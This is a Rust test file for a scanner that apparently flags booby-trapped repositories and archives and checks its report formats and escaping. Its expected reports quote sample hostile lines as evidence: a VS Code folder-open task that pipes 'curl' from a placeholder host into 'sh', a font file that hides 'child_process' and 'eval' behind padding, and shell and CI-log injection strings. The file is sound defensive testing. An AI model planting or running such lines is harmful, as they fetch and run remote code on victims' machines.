//! The report for a person, and what holds for every format.

use lurescan::finding::{Report, Severity, Verdict};
use lurescan::report::{Format, Style, escape, write};
use lurescan::signal::{Basis, Moment};

use crate::built;

const FORMATS: [Format; 4] = [Format::Human, Format::Json, Format::Ndjson, Format::Sarif];

fn printed(report: &Report, format: Format, style: &Style) -> String {
    let mut out = Vec::new();
    write(report, format, style, &mut out).expect("memory takes it all");
    String::from_utf8(out).expect("output is UTF-8")
}

fn human(report: &Report) -> String {
    printed(report, Format::Human, &Style { reproducible: true, ..Style::default() })
}

#[test]
fn a_pass_is_calm_and_says_what_it_does_not_mean() {
    assert_eq!(human(&built::pass()), PASS);
}

#[test]
fn a_block_says_what_would_happen_where_it_stands_and_what_to_do() {
    assert_eq!(human(&built::block()), BLOCK);
}

#[test]
fn a_review_names_the_place_inside_the_archive_and_how_to_look_at_it() {
    assert_eq!(human(&built::review()), REVIEW);
}

#[test]
fn an_incomplete_scan_lists_what_matters_and_counts_the_rest() {
    assert_eq!(human(&built::incomplete()), INCOMPLETE);
}

#[test]
fn the_environment_and_ages_are_shown_unless_reproducible() {
    let days = 20_757; // 2026-10-31
    let style = Style { today: Some(days), ..Style::default() };
    let open = printed(&built::pass(), Format::Human, &style);
    assert!(open.contains("newest of 2026-10-30 (1 day old)"), "{open}");
    assert!(open.contains("0.04 s on 2 threads; sandbox: landlock: enforced, seccomp: enforced"), "{open}");
    for format in FORMATS {
        let text = printed(&built::pass(), format, &Style { reproducible: true, ..style });
        for word in ["day old", "landlock", "elapsed", "\"environment\""] {
            assert!(!text.contains(word), "{word} in {format:?}: {text}");
        }
    }
}

#[test]
fn colour_is_there_only_when_asked_for_and_changes_no_text() {
    let plain = human(&built::block());
    let colored =
        printed(&built::block(), Format::Human, &Style { color: true, reproducible: true, ..Style::default() });
    assert!(!plain.contains('\u{1b}'));
    assert!(colored.starts_with("\u{1b}[1m\u{1b}[31mBLOCK\u{1b}[0m  "), "{colored:?}");
    assert_eq!(anstream::adapter::strip_str(&colored).to_string(), plain);
}

#[test]
fn lines_wrap_at_the_width() {
    for width in [40, 60, 100] {
        let text = printed(&built::review(), Format::Human, &Style { width, ..Style::default() });
        let long = text.lines().find(|l| l.chars().count() > width && !l.contains("lurescan show"));
        assert_eq!(long, None, "{width}");
    }
}

#[test]
fn nothing_of_the_target_reaches_a_terminal_or_a_ci_log_as_a_command() {
    for format in FORMATS {
        let text = printed(&built::hostile(), format, &Style::default());
        let bad = text.chars().find(|&c| c != '\n' && escape::is_unsafe(c));
        assert_eq!(bad, None, "{format:?}: {text}");
        for line in text.lines() {
            assert!(!line.trim_start().starts_with("::"), "{format:?}: {line}");
            assert!(!line.contains("##vso["), "{format:?}: {line}");
        }
    }
}

#[test]
fn escaped_json_still_says_the_same() {
    let hostile = built::hostile();
    let text = printed(&hostile, Format::Json, &Style::default());
    let back: Report = serde_json::from_str(&text).expect("it is JSON");
    assert_eq!(back, hostile);
}

#[test]
fn escaping_a_line_breaks_commands_and_keeps_the_rest() {
    assert_eq!(escape::line("a\tb\nc\u{1b}[0m\u{202e}d"), "a b↵c\\u{1b}[0m\\u{202e}d");
    assert_eq!(escape::line("  ::set-env name=a::b"), "  \\u{3a}:set-env name=a::b");
    assert_eq!(escape::line("std::env ## Heading"), "std::env ## Heading");
    assert_eq!(escape::line("x ##[error]y ###vso[z]"), "x #\\u{23}[error]y ##\\u{23}vso[z]");
    let once = escape::line("::a ##[b] \u{7}");
    assert_eq!(escape::line(&once), once);
}

#[test]
fn a_shell_word_is_quoted_or_refused() {
    assert_eq!(escape::shell_word("a/b-c.js").as_deref(), Some("a/b-c.js"));
    assert_eq!(escape::shell_word("a $(id)'b").as_deref(), Some(r"'a $(id)'\''b'"));
    assert_eq!(escape::shell_word("a\u{1b}b"), None);
    assert_eq!(escape::shell_word(""), None);
}

#[test]
fn findings_below_the_severity_are_counted_and_not_printed() {
    let style = Style { min_severity: Severity::Medium, ..Style::default() };
    let text = printed(&built::block(), Format::Human, &style);
    assert!(!text.contains("npm-lifecycle-exec"), "{text}");
    assert!(text.contains("  not shown 1 finding below severity medium\n"), "{text}");
    for format in [Format::Json, Format::Ndjson] {
        let value: serde_json::Value = serde_json::from_str(&printed(&built::block(), format, &style)).expect("JSON");
        assert_eq!(value["hidden"], 1);
        assert_eq!(value["findings"].as_array().map(Vec::len), Some(2));
    }
}

#[test]
fn without_snippets_no_text_of_the_evidence_is_left() {
    for format in FORMATS {
        let text = printed(&built::block(), format, &Style { snippets: false, ..Style::default() });
        for excerpt in ["lure.invalid/x", "⟨300 blanks⟩", "\"snippet\""] {
            assert!(!text.contains(excerpt), "{excerpt} in {format:?}: {text}");
        }
        // The rules' own pages, which SARIF carries, speak of the same settings.
        assert!(format == Format::Sarif || !text.contains("reveal"), "{format:?}: {text}");
    }
}

#[test]
fn the_earliest_moment_decides_the_sentence() {
    let mut report = built::pass();
    report.verdict = Verdict::Block;
    for (moment, basis, said) in [
        (Moment::Import, Basis::ExactIntelligence, "BLOCK  Do not use or run this: code that is known from published"),
        (Moment::Install, Basis::StructuralTrick, "BLOCK  Do not install or run this: code that is kept from view"),
        (Moment::Clone, Basis::RemoteToShell, "BLOCK  Do not clone, open or run this: code from the network would run"),
    ] {
        let mut found = built::finding("r", "f", Severity::High, Verdict::Block);
        (found.moment, found.basis) = (Some(moment), basis);
        report.findings.push(found);
        let text = human(&report);
        assert!(text.starts_with(said), "{text}");
    }
}

#[test]
fn many_findings_and_gaps_stay_a_page() {
    let mut report = built::incomplete();
    report.verdict = Verdict::Review;
    for n in 0..5_000 {
        report.findings.push(built::finding("r", &format!("f{n}"), Severity::Medium, Verdict::Review));
        report.gaps.push(built::gap("x", "x", lurescan::signal::GapReason::Crashed, true));
    }
    let text = human(&report);
    assert!(text.lines().count() < 160, "{} lines", text.lines().count());
    assert!(text.contains("and 4,992 files more"), "{text}");
    assert!(text.contains("and 4,980 findings more: `-f json` has them all"), "{text}");
    assert!(text.contains("4999 where the analysis crashed"), "{text}");
}

const PASS: &str = r#"PASS  No trap was found, and everything that matters was read.
      A pass says that none of the known ways in stands in what was read. It is no proof.

target  honest
sha256  abababababababababababababababababababababababababababababababab

What was read
  3 files, 2.0 kB; 3 examined
  rules: 1,204 entries, digest 0123456789ab, newest of 2026-10-30

What could not be read
  Nothing: all of it was read.

What to do next
  Nothing has to be done. If a stranger sent it, run it where no keys, wallets or sessions of yours
  are.
"#;

const BLOCK: &str = r#"BLOCK  Do not open or run this: code from the network would run as soon as the folder is opened in
       an editor.

target  job test
sha256  abababababababababababababababababababababababababababababababab

What would happen
  As soon as the folder is opened in an editor
    .vscode/tasks.json  fetches something from the network and runs code
  When the dependencies are installed
    public/a.woff2  runs code and keeps itself from view

Evidence
  critical  .vscode/tasks.json:12:20
            editor-autorun
            The task `env` starts by itself and gives a file from the network to a shell
            │ curl -s https://lure.invalid/x | sh
            line 14, column 9: and hides its terminal
            │ "reveal": "never"
            kept from view: the window or terminal is hidden; there is one for each operating system
            runs as soon as the folder is opened in an editor, by this way:
              1.  .vscode/tasks.json:8:5  VS Code task (folderOpen)
              2.  .vscode/tasks.json:12:5  gives a file from the network to a shell
            matches published tradecraft of Example Family (Example Labs, 2026-01-15, high
            confidence)

  high      public/a.woff2:1:1
            disguised-script
            A font that is JavaScript is started by a script
            │ require('child_process')⟨300 blanks⟩eval(x)
            the same content again: public/b.woff2

  context   decides nothing, `-f json` has it: npm-lifecycle-exec (1)

What was read
  3 files, 2.0 kB; 3 examined
  rules: 1,204 entries, digest 0123456789ab, newest of 2026-10-30

What could not be read
  Nothing: all of it was read.

What to do next
  1. Do not open the folder in an editor or coding agent; do not install, build, test or start it.
  2. To look at it without running it:
       lurescan show --line 12 'job test' .vscode/tasks.json
  3. Delete it, or keep it packed for whoever you report it to.
  4. Report it where you got it: the code host, the registry, the job site; and to your security
     team.
  5. If it was already opened, installed or run: disconnect that machine. From another one change
     passwords, revoke tokens and SSH keys, sign out all sessions, and move wallet funds to keys
     that never were on it.
"#;

const REVIEW: &str = r#"REVIEW  Look at it before you open or run it: something in it is kept from view.

target  tool.zip
sha256  abababababababababababababababababababababababababababababababab

What would happen
  When the file is loaded (nothing was found that loads it)
    package/i.js  keeps itself from view

Evidence
  medium    tool.zip!/app/p.tgz!/package/i.js:3:14
            js-obfuscated
            The program hides its meaning
            │ _0x12ab(0x1f)

What was read
  3 files, 2.0 kB; 14 members and layers unpacked from them, 88.4 kB; 3 examined
  rules: 1,204 entries, digest 0123456789ab, newest of 2026-10-30

What could not be read
  Nothing: all of it was read.

What to do next
  1. Open nothing yet: look at the places above as text.
  2. To look at it without running it:
       lurescan show --line 3 tool.zip 'tool.zip!/app/p.tgz!/package/i.js'
  3. If you cannot explain what they do, do not run it, or run it in a throw-away machine without
     keys, wallets or sessions.
  4. If it came with a job offer or from a stranger, ask for a version without them; pressure to run
     it is an answer.
"#;

const INCOMPLETE: &str = r#"INCOMPLETE  No trap was found, but 3 things that matter could not be read.

target  archive
sha256  abababababababababababababababababababababababababababababababab

What was read
  3 files, 2.0 kB; 3 examined
  rules: 1,204 entries, digest 0123456789ab, newest of 2026-10-30
  A clock limit or a stop ended a part of it: another run may read more.

What could not be read
  These matter: they are code or containers, or something starts them.
    a.zip!/run.exe  encrypted
    big.js          over the limit: size of a text that is parsed
    disk.iso        not supported: ISO 9660 image
  These do not change the verdict: nothing starts them.
    lib/0  not in the target: submodule
    lib/1  not in the target: submodule
    lib/2  not in the target: submodule
    lib/3  not in the target: submodule
    and 8 not in the target

What to do next
  1. Treat what was not read as unknown: do not open, install or run it yet.
  2. A locked archive keeps scanners out. Unpack it where nothing can start by itself, and scan what
     comes out.
  3. Unpack what is too large or not supported with another tool, and scan what comes out.
"#;

#[test]
fn gitlab_gets_both_kinds_of_report_and_never_an_empty_one_for_what_was_not_read() {
    use lurescan::report::{Format, age, write};
    let json = |report: &lurescan::finding::Report, format: Format| -> serde_json::Value {
        let mut out = Vec::new();
        write(report, format, &Style::default(), &mut out).expect("memory takes it all");
        serde_json::from_slice(&out).expect("JSON")
    };
    for report in built::all() {
        let sast = json(&report, Format::GitlabSast);
        assert_eq!(sast["scan"]["type"], "sast");
        let unread = report.gaps.iter().any(|gap| gap.matters);
        assert_eq!(sast["scan"]["status"], if unread { "failure" } else { "success" });
        let quality = json(&report, Format::GitlabQuality);
        let (found, issues) =
            (sast["vulnerabilities"].as_array().expect("a list"), quality.as_array().expect("a list"));
        assert_eq!((found.len(), issues.len()), (issues.len(), report.findings.len() + usize::from(unread)));
        let prints: std::collections::HashSet<String> =
            issues.iter().map(|one| one["fingerprint"].to_string()).collect();
        assert_eq!(prints.len(), issues.len());
        for one in found {
            assert!(one["location"]["start_line"].as_u64().is_some_and(|line| line > 0));
            assert_eq!(one["id"].as_str().map(str::len), Some(36));
        }
    }
    for date in ["1970-01-01", "2000-02-29", "2026-11-23", "2100-03-01"] {
        assert_eq!(age::date(age::days(date).expect("a date")), date);
    }
}
